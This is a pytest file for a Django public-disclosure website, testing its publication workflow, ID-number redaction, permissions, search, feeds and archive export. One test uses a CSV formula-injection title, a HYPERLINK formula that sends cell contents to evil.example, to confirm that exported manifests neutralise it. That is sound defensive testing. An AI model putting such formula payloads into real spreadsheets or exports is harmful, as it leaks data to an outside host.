"""The public and back-office pages, driven through the test client: responses and the
database state they leave."""

from __future__ import annotations

import datetime as dt
import io
import zipfile

import pytest
from django.utils import timezone

from gongkai.accounts.roles import Role
from gongkai.core.testing import persona
from gongkai.disclosure import services
from gongkai.disclosure.models import (
    CatalogEntry,
    FindingStatus,
    PilotArea,
    Publication,
    PublicationStatus,
    YearlyStatistic,
)
from gongkai.disclosure.tests.helpers import draft, publish, published

pytestmark = pytest.mark.django_db


def bo(org, rest=""):
    return f"/backoffice/{org.slug}/{rest}"


def test_the_whole_workflow_through_the_back_office(client, world, people):
    d = world.department
    client.force_login(people.editor)
    response = client.post(
        bo(d, "publications/new/"),
        {
            "title": "关于公开征求意见的公告",
            "statutory_category": "A20_03",
            "kind": "other_document",
            "formed_on": "2024-05-06",
            "written_on": "2024-05-06",
            "body": "<p>联系人身份证号11010519491231002X</p>",
        },
    )
    publication = Publication.objects.get()
    assert response.status_code == 302 and response["Location"].endswith(f"/publications/{publication.pk}/")
    client.post(bo(d, f"publications/{publication.pk}/submit/"))
    publication.refresh_from_db()
    assert publication.status == PublicationStatus.IN_REVIEW
    client.force_login(people.reviewer)
    page = client.get(bo(d, f"publications/{publication.pk}/")).content.decode()
    assert "110105********002X" in page and "11010519491231002X" not in page.split("publication-body")[0]
    client.post(bo(d, f"publications/{publication.pk}/pass-review/"))
    publication.refresh_from_db()
    assert publication.status == PublicationStatus.IN_REVIEW  # blocked
    finding = publication.findings.get()
    client.post(bo(d, f"publications/{publication.pk}/findings/{finding.pk}/redact/"))
    finding.refresh_from_db()
    assert finding.status == FindingStatus.REDACTED
    client.post(bo(d, f"publications/{publication.pk}/pass-review/"))
    client.force_login(people.admin)
    client.post(bo(d, f"publications/{publication.pk}/approve/"), {"publish_at": ""})
    client.post(bo(d, f"publications/{publication.pk}/publish/"))
    publication.refresh_from_db()
    assert publication.status == PublicationStatus.PUBLISHED
    public = client.get(f"/{d.slug}/publications/{publication.pk}/").content.decode()
    assert "110105********002X" in public and "11010519491231002X" not in public
    assert publication.index_number in public


def test_a_reviewer_cannot_publish_and_another_bodys_editor_gets_404(client, world, people):
    publication = draft(world.department, people.editor)
    services.publication_submit(actor=people.editor, publication=publication)
    client.force_login(people.reviewer)
    response = client.post(bo(world.department, f"publications/{publication.pk}/publish/"))
    assert response.status_code == 404
    outsider = persona(Role.EDITOR, world.other_department)
    client.force_login(outsider)
    assert client.get(bo(world.department, f"publications/{publication.pk}/")).status_code == 404
    assert client.get(bo(world.other_department, f"publications/{publication.pk}/")).status_code == 404


def test_public_pages(client, world, people):
    d = world.department
    policy = published(
        d, people, kind="normative_document", title="某某补贴管理办法", statutory_category="A20_01"
    )
    interpretation = published(
        d,
        people,
        kind="interpretation",
        title="《某某补贴管理办法》解读",
        interprets=policy,
        statutory_category="A20_01",
    )
    draft(d, people.editor, title="尚未发布的草稿")
    statutory = client.get(f"/{d.slug}/statutory/").content.decode()
    assert "（一）行政法规、规章和规范性文件" in statutory and "某某补贴管理办法" in statutory
    assert "尚未发布的草稿" not in statutory
    listing = client.get(f"/{d.slug}/statutory/A20_01/?validity=valid").content.decode()
    assert "某某补贴管理办法" in listing
    assert client.get(f"/{d.slug}/statutory/A20_99/").status_code == 404
    page = client.get(f"/{d.slug}/publications/{policy.pk}/").content.decode()
    for label in ("索引号", "发布机构", "成文日期", "发布日期", "文号", "有效性", "主题分类"):
        assert label in page
    assert "《某某补贴管理办法》解读" in page
    explained = client.get(f"/{d.slug}/publications/{interpretation.pk}/").content.decode()
    assert "某某补贴管理办法" in explained
    unpublished = Publication.objects.get(title="尚未发布的草稿")
    assert client.get(f"/{d.slug}/publications/{unpublished.pk}/").status_code == 404


def test_search_page_with_filters_and_highlights(client, world, people):
    published(world.department, people, title="关于做好疫情防控工作的通知")
    published(world.other_department, people_of(world.other_department), title="疫情期间公开信息")
    response = client.get("/search/", {"q": "疫情"})
    assert response.status_code == 200
    assert len(response.context["hits"]) == 2
    assert "<mark>疫情</mark>" in response.content.decode()
    scoped = client.get(f"/{world.department.slug}/search/", {"q": "疫情"})
    assert [row["organization"] for row in scoped.context["hits"]] == [world.department]
    units = client.get(f"/{world.government.slug}/search/", {"q": "疫情", "units": "1"})
    assert len(units.context["hits"]) == 2
    assert client.get("/search/", {"q": "公开", "order": "newest", "year": "1999"}).context["hits"] == []


def test_the_search_page_says_when_relevance_ranked_only_the_newest_matches(
    client, world, people, monkeypatch
):
    from gongkai.search.backends import postgresql, sqlite

    for module, name in ((sqlite, "CANDIDATES"), (sqlite, "EXACT_LIMIT"), (postgresql, "CANDIDATES")):
        monkeypatch.setattr(module, name, 2)
    for n in range(3):
        published(world.department, people, title=f"疫情防控通知（第{n + 1}号）")
    notice = "仅在最新的匹配结果中按相关度排序"
    assert notice in client.get("/search/", {"q": "疫情"}).content.decode()
    # Date order pages through every match; a query with few matches is ranked in full.
    assert notice not in client.get("/search/", {"q": "疫情", "order": "newest"}).content.decode()
    assert notice not in client.get("/search/", {"q": "第1号"}).content.decode()


def people_of(organization):
    from gongkai.disclosure.tests.helpers import staff

    return staff(organization)


def test_feeds_sitemap_and_archive(client, world, people):
    d = world.department
    publication = draft(d, people.editor, title="年度预算公开")
    services.attachment_add(
        actor=people.editor, publication=publication, name="预算表.png", data=b"\x89PNG\r\n\x1a\n" + b"0" * 10
    )
    publication = publish(publication, people, now=timezone.make_aware(dt.datetime(2024, 3, 8, 9)))
    rss = client.get(f"/{d.slug}/feed/rss/")
    assert (
        rss.status_code == 200 and "年度预算公开" in rss.content.decode() and "<rss" in rss.content.decode()
    )
    atom = client.get(f"/{d.slug}/feed/atom/")
    assert "http://www.w3.org/2005/Atom" in atom.content.decode()
    sitemap = client.get("/sitemap.xml").content.decode()
    assert f"/{d.slug}/publications/{publication.pk}/" in sitemap and f"/{d.slug}/statutory/" in sitemap
    response = client.get(f"/{d.slug}/archive/2024.zip")
    assert response["Content-Type"] == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    names = archive.namelist()
    assert "manifest.csv" in names and "manifest.json" in names
    assert "年度预算公开" in archive.read("manifest.csv").decode("utf-8-sig")
    page = next(n for n in names if n.endswith("index.html"))
    assert "索引号" in archive.read(page).decode()
    [attachment] = [n for n in names if n.endswith("预算表.png")]
    assert archive.read(attachment).startswith(b"\x89PNG")
    assert client.get(f"/{d.slug}/archive/1999.zip").status_code == 404


def test_the_author_sees_no_review_approval_or_publish_button_and_is_refused(client, world, people):
    """Issue 11, failure 2, through the back office: the office admin who wrote the item
    and also holds the reviewer role is refused at each step."""
    from gongkai.accounts.services import membership_grant

    d = world.department
    membership_grant(actor=None, user=people.admin, organization=d, role=Role.REVIEWER)
    publication = draft(d, people.admin)
    services.publication_submit(actor=people.admin, publication=publication)
    client.force_login(people.admin)
    page = client.get(bo(d, f"publications/{publication.pk}/")).content.decode()
    assert "pass-review" not in page and 'id="own-item"' in page
    response = client.post(bo(d, f"publications/{publication.pk}/pass-review/"), follow=True)
    publication.refresh_from_db()
    assert publication.status == PublicationStatus.IN_REVIEW
    assert "须由" in response.content.decode() or "another reviewer" in response.content.decode()
    client.force_login(people.reviewer)
    assert "pass-review" in client.get(bo(d, f"publications/{publication.pk}/")).content.decode()


def test_archive_manifest_cells_cannot_run_as_formulas(client, world, people):
    """Issue 11, failure 11: a title ``=HYPERLINK(…)`` went verbatim into manifest.csv."""
    d = world.department
    title = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    publication = draft(d, people.editor, title=title, summary="@SUM(1+1)", keywords="-2+3")
    publish(publication, people, now=timezone.make_aware(dt.datetime(2024, 3, 8, 9)))
    archive = zipfile.ZipFile(io.BytesIO(client.get(f"/{d.slug}/archive/2024.zip").content))
    import csv

    rows = list(csv.reader(io.StringIO(archive.read("manifest.csv").decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + title in cells and "'@SUM(1+1)" in cells and "'-2+3" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    # The JSON manifest keeps the exact title: it is data, not a spreadsheet.
    import json

    [record] = json.loads(archive.read("manifest.json"))["publications"]
    assert record["title"] == title


def test_catalog_and_statistics_pages(client, world, people):
    d = world.department
    standard = services.catalog_for(None)
    services.catalog_entry_create(
        actor=None,
        catalog=standard,
        values={"pilot_area": PilotArea.objects.get(number=9), "name": "保障性住房分配"},
    )
    client.force_login(people.editor)
    area = PilotArea.objects.get(number=9)
    client.post(bo(d, "catalog/"), {"pilot_areas": [area.pk]})
    entry = CatalogEntry.objects.get(catalog__organization=d)
    page = client.get(bo(d, "catalog/")).content.decode()
    assert "保障性住房分配" in page and "stale" in page
    client.post(
        bo(d, f"catalog/{entry.pk}/"),
        {
            "name": "保障性住房分配结果",
            "audience": "public",
            "mode": "proactive",
            "tier": "both",
            "position": 0,
            "channels": ["website"],
        },
    )
    entry.refresh_from_db()
    assert entry.name == "保障性住房分配结果" and entry.channels == ["website"]
    assert client.get(bo(d, "catalog/")).context["counts"] == {"added": 1, "adjusted": 1, "deleted": 0}
    assert client.get("/backoffice/standard/catalog/").status_code == 404  # only the operator
    client.post(bo(d, "statistics/"), {"entry-year": 2024, "entry-item": "LICENSE", "entry-decisions": 7})
    assert YearlyStatistic.objects.get(organization=d).decisions == 7
    from django.core.files.uploadedfile import SimpleUploadedFile

    upload = SimpleUploadedFile("counts.csv", "年度,事项,处理决定数量\n2024,行政处罚,x\n".encode())
    response = client.post(bo(d, "statistics/"), {"import-file": upload})
    assert [(e.row, e.field) for e in response.context["errors"]] == [(1, "decisions")]


def test_import_page_reports_errors(client, world, people):
    from django.core.files.uploadedfile import SimpleUploadedFile

    client.force_login(people.editor)
    upload = SimpleUploadedFile(
        "p.csv", "标题,形成日期,法定主动公开内容\n好的,2024-01-01,1\n,2024-01-01,1\n".encode()
    )
    response = client.post(bo(world.department, "publications/import/"), {"file": upload})
    assert [(e.row, e.field) for e in response.context["errors"]] == [(2, "title")]
    assert not Publication.objects.exists()


def test_back_office_pages_render(client, world, people):
    publication = draft(world.department, people.editor)
    client.force_login(people.admin)
    for url in (
        bo(world.department),
        bo(world.department, "publications/"),
        bo(world.department, "publications/new/"),
        bo(world.department, f"publications/{publication.pk}/"),
        bo(world.department, f"publications/{publication.pk}/edit/"),
        bo(world.department, "publications/deadlines/"),
        bo(world.department, "publications/import/"),
        bo(world.department, "publications/settings/"),
        bo(world.department, "catalog/"),
        bo(world.department, "catalog/new/"),
        bo(world.department, "statistics/"),
    ):
        assert client.get(url).status_code == 200, url
    operator = persona(Role.OPERATOR, world.government)
    client.force_login(operator)
    assert client.get("/backoffice/standard/catalog/").status_code == 200
